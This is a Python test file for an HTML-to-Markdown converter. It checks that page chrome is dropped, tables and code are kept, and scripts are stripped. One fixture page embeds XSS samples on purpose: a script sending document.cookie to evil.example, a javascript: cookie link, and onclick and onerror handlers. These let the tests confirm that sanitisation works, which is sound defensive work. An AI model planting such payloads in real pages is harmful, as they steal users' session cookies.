"""HTML pages → the Markdown structure: the article without the page's chrome, nothing
in the page executed or kept as markup, tables and code kept."""

from __future__ import annotations

import pytest

from superbiz.exceptions import DocumentError
from superbiz.knowledge.documents.chunking import chunk_markdown
from superbiz.knowledge.formats.html import convert_html

SITE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Redis failover - Ops Wiki</title>
<style>body { color: red }</style>
<script>document.title = "hacked"</script></head>
<body>
<header><a href="/">Ops Wiki</a> | <a href="/search">Search</a></header>
<nav><ul><li><a href="/a">All runbooks</a></li><li><a href="/b">Recent changes</a></li></ul></nav>
<main>
  <h1>Redis failover</h1>
  <p>Promote a <strong>replica</strong> when the primary is lost; see
     <a href="https://redis.io/docs/sentinel">the Sentinel docs</a>.</p>
  <h2>Steps</h2>
  <ol><li>Check the quorum.</li><li>Run the failover:
    <pre><code class="language-bash">redis-cli -p 26379 SENTINEL failover mymaster
  if [ $? -ne 0 ]; then echo "&lt;failed&gt;"; fi</code></pre></li></ol>
  <h2>Limits</h2>
  <table><thead><tr><th>setting</th><th>value</th></tr></thead>
    <tbody><tr><td>maxclients</td><td>10000</td></tr>
    <tr><td>timeout</td><td>0 | never</td></tr></tbody>
  </table>
  <p>Click <a href="javascript:alert(document.cookie)" onclick="steal()">here</a>
     <img src="x" onerror="alert(1)" alt="diagram of the failover"> for help.</p>
  <p>Write &lt;script&gt;alert(1)&lt;/script&gt; in the form to see the bug.</p>
</main>
<aside>Related pages: Kafka, MySQL</aside>
<footer>© 2024 Example Corp · Privacy · Terms</footer>
<script>fetch("https://evil.example/" + document.cookie)</script>
</body></html>
"""

MEDIAWIKI_PAGE = """<html><head><title>Disk pressure - Wiki</title></head><body>
<div id="mw-navigation"><div role="navigation">Main page Random page</div></div>
<h1 id="firstHeading">Disk pressure</h1>
<div id="mw-content-text"><div class="mw-parser-output">
<div id="toc" class="toc"><ul><li>1 Cause</li><li>2 Fix</li></ul></div>
<h2><span class="mw-headline">Cause</span><span class="mw-editsection">[edit]</span></h2>
<p>Logs fill the disk.</p>
<h2><span class="mw-headline">Fix</span></h2><p>Rotate the logs.</p>
</div></div>
<div class="printfooter">Retrieved from wiki</div>
</body></html>"""


def convert(page: str | bytes) -> tuple[str | None, str]:
    data = page.encode() if isinstance(page, str) else page
    converted = convert_html(data, "page.html", ("utf-8",))
    return converted.title, converted.markdown


def test_the_article_is_kept_and_the_page_chrome_left_out() -> None:
    title, body = convert(SITE_PAGE)

    assert title == "Redis failover"
    assert body.startswith("# Redis failover\n\nPromote a **replica** when the primary is lost; ")
    for chrome in ("Ops Wiki", "All runbooks", "Recent changes", "Related pages", "Privacy"):
        assert chrome not in body
    assert "1. Check the quorum.\n2. Run the failover:\n" in body
    assert (  # verbatim, indented under its list item
        "   ```bash\n   redis-cli -p 26379 SENTINEL failover mymaster\n"
        '     if [ $? -ne 0 ]; then echo "<failed>"; fi\n   ```'
    ) in body
    assert (
        "| setting | value |\n| --- | --- |\n| maxclients | 10000 |\n| timeout | 0 \\| never |"
        in body
    )
    assert [c.heading for c in chunk_markdown(body, size=120, overlap=10)][-1].startswith(
        "Redis failover > Limits"
    )


def test_scripts_handlers_and_javascript_links_are_never_kept_and_markup_text_stays_text() -> None:
    _, body = convert(SITE_PAGE)

    assert "the Sentinel docs" in body and "redis.io" not in body  # links are their text
    assert "Click here diagram of the failover for help." in body
    for executable in ("javascript:", "onclick", "steal()", "onerror", "document.cookie", "hacked"):
        assert executable not in body
    assert "color: red" not in body
    # markup written as text in the page is text, never turned back into an element
    assert "Write <script>alert(1)</script> in the form to see the bug." in body


def test_a_wiki_export_keeps_its_content_without_the_toc_and_edit_links() -> None:
    title, body = convert(MEDIAWIKI_PAGE)

    assert title == "Disk pressure - Wiki"
    assert body == "## Cause\n\nLogs fill the disk.\n\n## Fix\n\nRotate the logs.\n"


def test_the_page_charset_decides_when_the_bytes_are_not_utf8() -> None:
    page = (
        '<html><head><meta charset="gbk"><title>支付</title></head>'
        "<body><p>支付回调超时</p></body></html>"
    )
    title, body = convert(page.encode("gbk"))

    assert (title, body) == ("支付", "支付回调超时\n")


def test_a_file_whose_extension_lies_is_refused() -> None:
    with pytest.raises(DocumentError) as caught:
        convert(b"%PDF-1.7\n%binary")
    assert caught.value.reason == "the extension lies: its content is a PDF document, not HTML"


def test_nesting_deeper_than_the_stack_is_read_as_text() -> None:
    page = "<div>" * 1500 + "deep text" + "</div>" * 1500
    _, body = convert(f"<html><body>{page}<p>after</p></body></html>")

    assert "deep text" in body and "after" in body


def test_the_first_heading_names_the_page_when_the_title_adds_the_sites_name() -> None:
    """mdBook titles a page "What is Ownership? - The Rust Programming Language" and heads
    it "What Is Ownership?" in an ``<h2>``: the heading is the page's own name, whatever its
    case or level."""
    page = (
        "<html><head><title>What is Ownership? - The Rust Programming Language</title></head>"
        '<body><div class="menu-bar"><h1 class="menu-title">The Rust Programming Language</h1>'
        "</div><main><h{level}>What Is Ownership?</h{level}><p>Rules the compiler checks.</p>"
        "</main></body></html>"
    )
    for level in (1, 2):
        title, _ = convert(page.format(level=level).encode())
        assert title == "What Is Ownership?"
    # a first heading the title does not name leaves the title as it is
    title, _ = convert(page.format(level=2).replace("What Is Ownership?</h2>", "Rules</h2>"))
    assert title == "What is Ownership? - The Rust Programming Language"


def test_a_headings_mark_linking_to_itself_is_not_part_of_it() -> None:
    """Node.js's documentation ends each heading with a "#" link to itself, Sphinx's with
    a "¶": "## C++ addons#" was a heading, and the page's title kept the site's name."""
    page = (
        "<html><head><title>C++ addons | Node.js v20 Documentation</title></head><body><main>"
        '<h2>C++ addons<span><a class="mark" href="#addons">#</a></span></h2><p>Addons.</p>'
        '<h3>Hello world<a class="headerlink" href="#hello" title="Link">¶</a></h3><p>Hi.</p>'
        '<h3><a class="header" href="#build">Building</a></h3><p>Run it.</p></main></body></html>'
    )
    title, body = convert(page)
    assert title == "C++ addons"
    assert body == "## C++ addons\n\nAddons.\n\n### Hello world\n\nHi.\n\n### Building\n\nRun it.\n"


def test_an_options_mark_linking_to_itself_is_not_part_of_it() -> None:
    """Sphinx marks each option it describes with a "¶" too, outside any heading."""
    page = (
        '<html><body><main><h1>cmake(1)</h1><dl class="std option"><dt id="j">'
        '<span class="pre">-j</span> [&lt;jobs&gt;], <span class="pre">--parallel</span>'
        '<a class="headerlink" href="#j">¶</a></dt><dd><p>Concurrent processes.</p></dd></dl>'
        '<p>Back to the <a href="#top">top</a> <a href="#top">↑</a></p></main></body></html>'
    )
    _, body = convert(page)
    assert body == (
        "# cmake(1)\n\n-j [<jobs>], --parallel\n\nConcurrent processes.\n\nBack to the top\n"
    )


def test_two_programs_in_one_pre_stay_apart() -> None:
    """Node.js's documentation puts an example's ES module and CommonJS forms in one
    ``<pre>``, a ``<code>`` each."""
    page = (
        "<html><body><main><h1>Readline</h1><pre>"
        "<code class=\"language-js mjs\">import { once } from 'node:events';\nrun();</code>"
        "<code class=\"language-js cjs\">const { once } = require('node:events');\nrun();</code>"
        "</pre></main></body></html>"
    )
    _, body = convert(page)
    assert body == (
        "# Readline\n\n```js\nimport { once } from 'node:events';\nrun();\n\n"
        "const { once } = require('node:events');\nrun();\n```\n"
    )


def test_the_line_break_just_after_pre_is_not_the_codes() -> None:
    """HTML drops a line break just after ``<pre>``, and DocBook manuals (Valgrind's)
    write every listing so: their code blocks, and the quotes of them, began with an
    empty line. A second one, or one inside ``<code>``, is the code's."""
    page = (
        "<html><body><main><h1>Errors</h1>"
        '<pre class="programlisting">\n==1== Conditional jump\n==1==    at main</pre>'
        "<pre>\r\n\r\nkept</pre><pre><code>\nkept too</code></pre></main></body></html>"
    )
    _, body = convert(page)
    assert body == (
        "# Errors\n\n```\n==1== Conditional jump\n==1==    at main\n```\n\n"
        "```\n\nkept\n```\n\n```\n\nkept too\n```\n"
    )
